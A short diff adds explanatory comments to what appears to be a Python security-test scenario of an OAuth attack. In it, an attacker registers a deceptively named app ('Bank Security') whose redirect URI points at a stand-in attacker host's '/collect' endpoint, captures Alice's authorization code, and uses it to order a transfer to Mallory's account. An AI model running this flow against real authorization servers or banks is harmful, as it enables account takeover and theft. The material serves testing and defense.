@@ -13,6 +13,7 @@ ORDER = {"from_account": "alice-current", "to_account": "mallory-current", "amou
 def registers_under_a_good_name(stage: Stage) -> None:
     """Register an app as “Bank Security”, for transfers; where that is refused, under a name of its own."""
     redirect_uri = f"{stage.here.attacker}/collect"
+    # Registration is open to everybody, so each word of this is the stranger's own, but for the redirect URI.
     for name in ("Bank Security", "Recipes"):
         metadata = METADATA | {"client_name": name, "redirect_uris": [redirect_uri]}
         answer = stage.attacker.ask("POST", f"{stage.here.auth}/register", json=metadata)
@@ -33,5 +34,6 @@ def alice_follows_the_mail(stage: Stage) -> None:
 def moves_money(stage: Stage) -> None:
     """Redeem the code, and order a transfer from Alice's account to Mallory's."""
     token = stage.redeem_newest(stage.kept["client_id"], f"{stage.here.attacker}/collect")
+    # The bank makes a transfer once for each key: a new one for each attack.
     name = {"Idempotency-Key": stage.kept["verifier"]}
     stage.attacker.bank("POST", "/transfers", token, json=ORDER, headers=name)
